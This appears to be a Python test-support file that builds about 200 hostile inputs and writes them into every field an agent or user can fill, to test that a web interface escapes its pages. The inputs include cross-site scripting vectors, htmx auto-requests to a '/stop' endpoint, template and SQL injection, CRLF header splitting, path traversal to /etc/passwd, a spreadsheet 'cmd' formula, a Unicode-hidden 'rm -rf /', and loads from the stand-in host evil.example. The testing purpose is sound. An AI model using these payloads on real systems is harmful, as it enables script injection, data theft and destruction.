"""Texts that an agent could write wherever it writes, to make a page do something."""

from __future__ import annotations

import re
from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path

from holdfast.facts.base import Text
from holdfast.facts.mission import Check, Contract, Criterion, Item, Task
from holdfast.facts.people import UserMessage
from tests.mission.brief_mission import World
from tests.support.web_home import web_home, write_world

TEXTS = (
    '<script>fetch("/stop")</script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '<b hx-post="/inbox/itm_0001" hx-trigger="load">x</b>',
    "</pre></article><form action=/stop method=post><button name=what value=stop>ok",
    "<style>*{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>1</script>'>",
    "{{ 7*7 }}{% include 'base.html' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<!-- --><base href=//evil.example>",
    "</textarea></title></script><meta http-equiv=refresh content=0;url=//evil.example>",
    "\u202egnp.exe\u2066 \u200b\u2028 \x1b[31m",
    "&lt;script&gt; &#60;b&#62; %3Cscript%3E",
    "<details open ontoggle=alert(1)>",
)
"""One of each kind."""

_EVIL = "//evil.example/x"

_BODIES = (
    "<script src={evil}></script>",
    "<script type=module>import '{evil}'</script>",
    "<script>document.body.remove()</script>",
    "<img src={evil}>",
    "<img srcset='{evil} 1x' onload=alert(1)>",
    "<picture><source srcset={evil}><img></picture>",
    "<video src={evil} poster={evil} autoplay onerror=alert(1)>",
    "<audio src={evil} onerror=alert(1)>",
    "<iframe src={evil}></iframe>",
    "<object data={evil}></object><embed src={evil}>",
    "<link rel=stylesheet href={evil}>",
    "<link rel=prefetch href={evil}><link rel=preload as=image href={evil}>",
    "<style>@import '{evil}';body{{background:url({evil})}}</style>",
    "<p style='background:url({evil})'>x</p>",
    "<svg><image href={evil} /><use href='{evil}#a'/></svg>",
    "<svg><script href={evil}></script><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<form action={evil} method=post><input name=csrf><button autofocus>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=/stop form=steer>x</button>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<div hx-get={evil} hx-trigger=load hx-swap=outerHTML>x</div>",
    "<div data-hx-post=/stop data-hx-trigger='load' hx-vals='{{\"what\":\"stop\"}}'>x</div>",
    "<div hx-on:load='alert(1)' hx-on::after-request='alert(1)'>x</div>",
    "<span id=fresh data-list=rows data-load={evil} data-act=approve data-swap>x</span>",
    "<template shadowrootmode=open><slot onslotchange=alert(1)></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='data:text/html,<script>alert(1)</script>' target=_top autofocus>x</a>",
    "<a ping={evil} href=/fleet>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<meta http-equiv=content-security-policy content='script-src *'>",
    "<portal src={evil}></portal><fencedframe src={evil}></fencedframe>",
)
"""Markup, with a place for an address."""

_WRAPS = ("{}", '">{}', "'>{}", "</script></style></title></textarea></pre>{}", "<!--{}-->{}")
"""Ways out of where a text stands."""

_PLAIN = (
    "{{ self.__init__.__globals__ }}",
    "{{ config }} {{ request.environ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# a comment #}{% raw %}{{ 1 }}{% endraw %}",
    "#{ 7*7 } *{ 7*7 } @{ 7*7 } ~{ 7*7 }",
    "[[${7*7}]] [(${7*7})] <#assign x=7*7>${x}",
    "\u2066\u202d/bin/rm -rf /\u202c\u2069 approved",
    "a\u200bp\u200cp\u200dr\u2060o\ufeffve",
    "\u0000\u0001\u0007\u0008\u007f\u009b31m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\ufe0f\u034f\u115f\u3164\U000e0041\U000e0042",
    "\u0430\u0440\u0440r\u043eve (Cyrillic letters)",
    "line one\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
    "data: evil\n\nevent: status\nid: 99",
    "javascript:alert(1)//%0aalert(1)",
    "../../../../etc/passwd%00.png",
    "'; drop table sessions; --",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "=cmd|' /C calc'!A0",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""Texts without markup."""


def all_texts() -> tuple[str, ...]:
    """Return 200 texts: each kind of markup in each way out, and the others."""
    marked = [wrap.replace("{}", body.format(evil=_EVIL)) for body in _BODIES for wrap in _WRAPS]
    return (*TEXTS, *marked, *_PLAIN)


async def write(texts: Sequence[str], home: Path) -> None:
    """Sessions and a mission with each of the texts in all fields that an agent or a user can write."""
    async with web_home(home) as made:
        for number, text in enumerate(texts):
            key = f"h{number}"
            name = await made.open(key, text, ago_us=60_000_000)
            await made.tell(name, UserMessage(content=(Text(text),)))
            await made.turn(
                name, text, ("bash", {"command": text}, text), ("write", {"path": text, "content": text}, text)
            )
            if number % 2:
                await made.ask(name, text, text, why=text, touches=text, options=(text,), kind="question")
            else:
                await made.ask(name, text, text, why=text, touches=text)
        items = tuple(
            Item(f"item{number}", text, criteria=(Criterion(f"c{number}", text, Check("true")),))
            for number, text in enumerate(texts)
        )
        tasks = tuple(Task(f"T{number}", text, (f"c{number}",)) for number, text in enumerate(texts))
        await write_world(made, World(Contract(texts[0], items), tasks), ago_us=60_000_000)
        await made.end("ses_top", "parked", "person", texts[0])  # nothing is at work, so pages stay as they are


class Dom(HTMLParser):
    """The kinds of tags of a page, each with the names of its attributes and where it leads; and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.kinds: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = sorted(name for name, _ in attrs)
        leads = [re.sub(r"[0-9]+", "N", value or "") for name, value in attrs if name in ("src", "action", "href")]
        self.kinds.add(" ".join([tag, *names, *leads]))

    def handle_data(self, data: str) -> None:
        self.text += data
